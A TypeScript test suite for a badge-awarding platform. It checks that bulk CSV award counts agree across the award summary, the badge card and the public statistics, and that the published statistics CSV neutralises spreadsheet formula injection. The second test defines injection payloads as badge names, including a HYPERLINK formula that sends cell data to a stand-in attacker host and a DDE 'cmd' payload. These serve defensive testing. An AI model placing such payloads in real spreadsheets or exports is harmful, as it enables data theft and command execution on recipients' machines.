import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { TestClient } from "./support/client";
import { addMember, buildOrganisation, buildUser, signedInClient } from "./support/factories";
import { createTestPlatform, type TestPlatform } from "./support/platform";

/**
 * What a participant reads about its own badges adds up: a CSV award's
 * summary (issued, already held, refused with the line and the reason), the
 * badge's card and the public figures tell the same numbers. And a name the
 * partner chose cannot become a formula in the CSV Blason publishes.
 */
let platform: TestPlatform;
let partnerId: string;
let partner: TestClient;

const badgeBody = (name: string) => ({
  name,
  recognises: "La personne accueille le public de l'atelier et l'oriente.",
  criteria: [{ statement: "A accueilli le public pendant un mois.", evidence: [] }],
  validityMonths: 36,
  color: "#1f5f8b",
});

beforeAll(async () => {
  platform = await createTestPlatform();
  await buildOrganisation(platform.ctx, { name: "Région Normandie", kind: "region" });
  const org = await buildOrganisation(platform.ctx, { name: "Atelier Caen", kind: "partner" });
  partnerId = org.id;
  const admin = await buildUser(platform.ctx);
  await addMember(platform.ctx, org.id, admin.id, "admin");
  partner = await signedInClient(platform, admin.id);
  const manager = await signedInClient(
    platform,
    (await buildUser(platform.ctx, { platformRoles: ["programme_manager"] })).id,
  );
  const participation = await manager.post(`/api/organisations/${org.id}/participations`, {
    kind: "participant",
    validFrom: new Date(Date.now() - 86_400_000).toISOString(),
  });
  expect(participation.statusCode, participation.body).toBe(201);
});
afterAll(async () => platform?.close());

async function createBadge(name: string): Promise<string> {
  const created = await partner.post(`/api/organisations/${partnerId}/own-badges`, badgeBody(name));
  expect(created.statusCode, created.body).toBe(201);
  return created.json().id;
}

describe("a CSV award's counts", () => {
  it("4 lines, one person already holding the badge, one invalid line: 2 issued, 1 already held, 1 refused, everywhere", async () => {
    const badgeId = await createBadge("Accueillir le public");
    const one = await partner.post(`/api/organisations/${partnerId}/own-badges/${badgeId}/awards`, {
      email: "lea.durand@exemple.fr",
      name: "Léa Durand",
    });
    expect(one.statusCode, one.body).toBe(201);
    const csv = [
      "courriel;nom",
      "thomas.leroux@exemple.fr;Thomas Leroux",
      "lea.durand@exemple.fr;Léa Durand",
      "pas-une-adresse;Quelqu'un",
      "nora.haddad@exemple.fr;Nora Haddad",
    ].join("\r\n");
    const started = await partner.post(
      `/api/organisations/${partnerId}/own-badges/${badgeId}/award-batches`,
      { csv },
    );
    expect(started.statusCode, started.body).toBe(202);
    // Before the job: every line of the file is counted, the invalid one already refused.
    expect(started.json()).toMatchObject({
      lines: 4,
      processed: 1,
      issued: 0,
      alreadyHeld: 0,
      refused: [{ line: 4, email: "pas-une-adresse", reason: "Adresse électronique invalide." }],
      finished: false,
    });
    await platform.worker.drain();
    const summary = (
      await partner.get(`/api/organisations/${partnerId}/award-batches/${started.json().id}`)
    ).json();
    expect(summary).toEqual({
      id: started.json().id,
      lines: 4,
      processed: 4,
      issued: 2,
      alreadyHeld: 1,
      refused: [{ line: 4, email: "pas-une-adresse", reason: "Adresse électronique invalide." }],
      finished: true,
    });
    expect(summary.issued + summary.alreadyHeld + summary.refused.length).toBe(summary.lines);
    // Read in English, the refused line says why in English.
    partner.locale = "en";
    const inEnglish = (
      await partner.get(`/api/organisations/${partnerId}/award-batches/${started.json().id}`)
    ).json();
    partner.locale = "fr";
    expect(inEnglish.refused).toEqual([
      { line: 4, email: "pas-une-adresse", reason: "Invalid email address." },
    ]);

    // The card: 3 people hold it (Léa before, Thomas and Nora now), and the list says the same.
    const card = (await partner.get(`/api/organisations/${partnerId}/own-badges`)).json();
    const badge = card.badges.find((b: { id: string }) => b.id === badgeId);
    expect(badge.awarded).toBe(3);
    const awards = (
      await partner.get(`/api/organisations/${partnerId}/own-badges/${badgeId}/awards`)
    ).json().awards as { email: string; status: string }[];
    expect(
      awards
        .filter((a) => a.status !== "revoked")
        .map((a) => a.email)
        .sort(),
    ).toEqual(["lea.durand@exemple.fr", "nora.haddad@exemple.fr", "thomas.leroux@exemple.fr"]);

    // A revoked award leaves the holders, in the card and in the public figures alike.
    const nora = (await partner.get(`/api/organisations/${partnerId}/own-badges/${badgeId}/awards`))
      .json()
      .awards.find((a: { email: string }) => a.email === "nora.haddad@exemple.fr");
    const revoked = await partner.post(
      `/api/organisations/${partnerId}/own-badges/${badgeId}/awards/${nora.id}/revoke`,
      { reason: "Attribué par erreur." },
    );
    expect(revoked.statusCode, revoked.body).toBe(204);
    const after = (await partner.get(`/api/organisations/${partnerId}/own-badges`)).json();
    expect(after.badges.find((b: { id: string }) => b.id === badgeId).awarded).toBe(2);
    const stats = (await new TestClient(platform.app).get("/api/public/statistics")).json();
    expect(
      stats.badgesPerBadge.find((b: { badge: string }) => b.badge === "Accueillir le public"),
    ).toMatchObject({ count: 2 });
  });
});

describe("the CSV Blason publishes", () => {
  it("a partner-chosen badge name starting with = reaches the statistics CSV as text, not as a formula", async () => {
    const names = [
      '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez ici")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
    ];
    for (const name of names) await createBadge(name);
    const csv = await new TestClient(platform.app).get("/api/public/statistics.csv");
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(
      `"badges délivrés par badge";"'=HYPERLINK(""https://attaquant.example/?d=""&A1;""Cliquez ici"")";"0"`,
    );
    for (const name of names) expect(csv.body).toContain(`"'${name.replace(/"/g, '""')}"`);
    // No cell of the file starts with a character a spreadsheet would read as a formula.
    const cellsOf = (line: string) => line.match(/"(?:[^"]|"")*"|[^;]+/g) ?? [];
    const cells = csv.body
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .flatMap(cellsOf)
      .map((c) => c.replace(/^"|"$/g, ""));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
